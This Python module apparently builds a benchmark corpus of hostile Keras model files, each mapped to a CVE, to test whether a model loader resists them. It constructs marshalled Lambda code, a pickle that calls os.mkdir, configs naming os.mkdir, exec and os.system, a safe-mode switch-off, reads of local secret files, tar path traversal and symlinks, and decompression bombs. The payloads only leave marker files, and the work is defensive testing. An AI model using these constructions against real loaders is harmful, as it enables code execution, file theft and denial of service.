"""Keras models whose configuration would run something, read something or ask for too much."""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import pickle
import tarfile
import zipfile
from pathlib import Path
from typing import Any

from benchmarks.trust.hostile.corpus import Trap, hostile
from tests.portable.foreign.by_hand import layer_configs, sequential, write_h5, write_keras

Layer = tuple[str, dict[str, Any]]


def _model(*layers: Layer) -> dict[str, Any]:
    """A sound generator with some layers more in front."""
    return sequential(layers=[*layers, *layer_configs(old=False)])


def _called(module: str, name: str, **arguments: Any) -> Layer:
    """A Lambda layer that calls a function by its name, as Keras 3 writes it."""
    function = {"module": module, "class_name": "function", "config": name, "registered_name": name}
    return "Lambda", {"name": "payload", "function": function, "arguments": arguments}


def _marshalled(trap: Trap) -> dict[str, Any]:
    code = compile(f"lambda x: ({trap.code}, x)", "payload", "eval").co_consts[0]
    packed = base64.b64encode(marshal.dumps(code)).decode()
    return {"class_name": "__lambda__", "config": {"code": packed, "defaults": None}}


class _Springs:
    def __init__(self, trap: Trap) -> None:
        self.marker = str(trap.marker)

    def __reduce__(self) -> Any:
        return os.mkdir, (self.marker,)


def _pickled(trap: Trap) -> str:
    return base64.b64encode(pickle.dumps(_Springs(trap))).decode()


@hostile(".keras", "a Lambda layer with marshalled code", cve="CVE-2024-3660")
def lambda_layer(path: Path, trap: Trap) -> None:
    write_keras(path, _model(("Lambda", {"name": "payload", "function": _marshalled(trap)})))


@hostile(".h5", "the same in HDF5, where safe mode was not asked", cve="CVE-2025-9905")
def lambda_in_hdf5(path: Path, trap: Trap) -> None:
    code = [base64.b64encode(marshal.dumps(compile(trap.code, "x", "eval"))).decode(), None, None]
    config = {"name": "payload", "function": code, "function_type": "lambda", "module": "__main__"}
    write_h5(path, _model(("Lambda", config)))


@hostile(
    ".keras", "a module and a function of Python named in the configuration", cve="CVE-2025-1550"
)
def any_function(path: Path, trap: Trap) -> None:
    write_keras(path, _model(_called("os", "mkdir", path=str(trap.marker))))


@hostile(".keras", "get_file, which fetches an address and writes a file", cve="CVE-2025-8747")
def get_file(path: Path, trap: Trap) -> None:
    given = {"fname": "x", "origin": trap.url, "cache_dir": str(trap.marker)}
    write_keras(path, _model(_called("keras.utils", "get_file", **given)))


@hostile(".keras", "a configuration that switches safe mode off first", cve="CVE-2025-9906")
def unsafe_by_itself(path: Path, trap: Trap) -> None:
    first = _called("keras.config", "enable_unsafe_deserialization")
    then = ("Lambda", {"name": "then", "function": _marshalled(trap)})
    write_keras(path, _model(first, then))


@hostile(".keras", "a vocabulary that is a file of this machine", cve="CVE-2025-12058")
def vocabulary_from_file(path: Path, trap: Trap) -> None:
    config = {"name": "payload", "vocabulary": str(trap.secret), "max_tokens": None}
    write_keras(path, _model(("StringLookup", config)))


@hostile(".keras", "a vocabulary that is an address inside the network", cve="CVE-2025-12058")
def vocabulary_from_network(path: Path, trap: Trap) -> None:
    write_keras(path, _model(("StringLookup", {"name": "payload", "vocabulary": trap.url})))


@hostile(".keras", "a PyTorch module as pickle", cve="CVE-2025-49655")
def torch_module(path: Path, trap: Trap) -> None:
    config = {"name": "payload", "module": _pickled(trap)}
    write_keras(path, _model(("TorchModuleWrapper", config)))


@hostile(".h5", "a PyTorch module, outside of any safe mode", cve="CVE-2026-12484")
def torch_module_in_hdf5(path: Path, trap: Trap) -> None:
    config = {"name": "payload", "module": {"class_name": "__bytes__", "config": _pickled(trap)}}
    write_h5(path, _model(("TorchModuleWrapper", config)))


@hostile(".keras", "a layer that loads a SavedModel from a path", cve="CVE-2026-1462")
def saved_model(path: Path, trap: Trap) -> None:
    write_keras(path, _model(("TFSMLayer", {"name": "payload", "filepath": str(trap.secret)})))


@hostile(".keras", "a Lambda inside of another layer, safe mode unset", cve="CVE-2026-12481")
def lambda_inside(path: Path, trap: Trap) -> None:
    inner = {"class_name": "Lambda", "config": {"name": "x", "function": _marshalled(trap)}}
    write_keras(path, _model(("TimeDistributed", {"name": "payload", "layer": inner})))


@hostile(".keras", "layers whose names are paths", cve="CVE-2026-12479")
def names_that_are_paths(path: Path, trap: Trap) -> None:
    layers = layer_configs(old=False)
    names = ("..", "../../sprung", str(trap.marker))
    layers = [
        (kind, {**config, "name": n}) for (kind, config), n in zip(layers, names, strict=False)
    ]
    write_keras(path, sequential(layers=layers + layer_configs(old=False)[3:]))


@hostile(".h5", "the same in HDF5, where names are looked up")
def names_that_are_paths_in_hdf5(path: Path, trap: Trap) -> None:
    kind, config = layer_configs(old=False)[0]
    model = sequential(layers=[(kind, {**config, "name": "../.."}), *layer_configs(old=False)[1:]])
    write_h5(path, model)


@hostile(".keras", "registered names: of a built-in function, and of a package")
def registered_names(path: Path, trap: Trap) -> None:
    model = sequential()
    for entry, name in zip(model["config"]["layers"], ("builtins>exec", "os>system"), strict=False):
        entry.update(registered_name=name, module="builtins", class_name="exec")
        entry["config"]["args"] = [trap.code]
    write_keras(path, model)


@hostile(".keras", "activations and initialisers that name functions")
def functions_in_layers(path: Path, trap: Trap) -> None:
    called = _called("os", "mkdir", path=str(trap.marker))[1]["function"]
    layers = layer_configs(old=False)
    layers[0][1].update(activation=called, kernel_initializer=called, bias_constraint=called)
    write_keras(path, sequential(layers=layers))


def _tar(path: Path, add: list[tarfile.TarInfo]) -> None:
    with tarfile.open(path, "w") as archive:
        for entry in add:
            entry.size = 4 if entry.isreg() else 0
            archive.addfile(entry, io.BytesIO(b"evil") if entry.isreg() else None)


def _entry(name: str, kind: bytes = tarfile.REGTYPE, target: str = "") -> tarfile.TarInfo:
    entry = tarfile.TarInfo(name)
    entry.type, entry.linkname = kind, target
    return entry


@hostile(".keras", "a tar with paths that lead out", cve="CVE-2025-12060, CVE-2025-12638")
def tar_slip(path: Path, trap: Trap) -> None:
    _tar(path, [_entry("../../sprung"), _entry(str(trap.marker))])


@hostile(
    ".zip", "a tar that writes wherever it likes, as get_file unpacked it", cve="CVE-2024-55459"
)
def tar_as_zip(path: Path, trap: Trap) -> None:
    _tar(path, [_entry(f"{'../' * 12}{trap.marker}")])


@hostile(".zip", "a tar with a link, and a file written through it", cve="CVE-2026-12482")
def tar_with_links(path: Path, trap: Trap) -> None:
    link = _entry("link", tarfile.SYMTYPE, str(trap.marker.parent))
    _tar(path, [link, _entry("link/sprung"), _entry("hard", tarfile.LNKTYPE, str(trap.secret))])


@hostile(".h5", "a tar whose paths are fine from the folder at the top", cve="CVE-2026-11816")
def tar_from_the_top(path: Path, trap: Trap) -> None:
    _tar(path, [_entry(str(trap.marker).lstrip("/")), _entry("..")])


@hostile(".keras", "JSON nested a million times")
def deep_configuration(path: Path, trap: Trap) -> None:
    text = '{"class_name":"Sequential","config":' + "[" * 1_000_000 + "]" * 1_000_000 + "}"
    _with_config(path, text.encode())


@hostile(".keras", "numbers of a million digits, and numbers that are none")
def huge_numbers(path: Path, trap: Trap) -> None:
    layers = layer_configs(old=False)
    layers[0][1]["units"] = "DIGITS"
    layers[1][1]["negative_slope"] = float("nan")
    text = json.dumps(sequential(layers=layers)).replace('"DIGITS"', "9" * 1_000_000)
    _with_config(path, text.encode())


@hostile(".keras", "a configuration that unpacks to 300 MB")
def configuration_bomb(path: Path, trap: Trap) -> None:
    _with_config(path, b'{"x": "' + b" " * 300_000_000 + b'"}')


def _with_config(path: Path, text: bytes) -> None:
    write_keras(path, sequential())
    with zipfile.ZipFile(path) as archive:
        weights = archive.read("model.weights.h5")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("config.json", text)
        archive.writestr("model.weights.h5", weights)


@hostile(".keras", "weights that unpack to a gigabyte", is_large=True)
def weights_bomb(path: Path, trap: Trap) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("config.json", json.dumps(sequential()))
        with archive.open("model.weights.h5", "w") as entry:
            for _ in range(1000):
                entry.write(bytes(1_000_000))


@hostile(".keras", "a hundred thousand layers")
def many_layers(path: Path, trap: Trap) -> None:
    layer = ("LeakyReLU", {"name": "x", "negative_slope": 0.1})
    write_keras(path, sequential(layers=[layer] * 40_000))


@hostile(".keras", "a model whose layers follow each other in a circle")
def circle(path: Path, trap: Trap) -> None:
    entries = []
    for name, before in (("a", "b"), ("b", "a")):
        node = {
            "args": [
                {"class_name": "__keras_tensor__", "config": {"keras_history": [before, 0, 0]}}
            ]
        }
        entries.append({"class_name": "Flatten", "config": {"name": name}, "inbound_nodes": [node]})
    ends = {"input_layers": ["a", 0, 0], "output_layers": ["b", 0, 0]}
    write_keras(path, {"class_name": "Functional", "config": {"layers": entries, **ends}})


@hostile(".keras", "a dense layer of a million million weights, then images of a gigapixel")
def giant_layers(path: Path, trap: Trap) -> None:
    dense = ("Dense", {"name": "a", "units": 1_000_000, "use_bias": True})
    upsample = ("UpSampling2D", {"name": "up", "size": [8, 8]})
    layers = [
        dense,
        ("Reshape", {"name": "r", "target_shape": [1000, 1000, 1]}),
        upsample,
        upsample,
    ]
    write_keras(path, sequential(layers=layers))
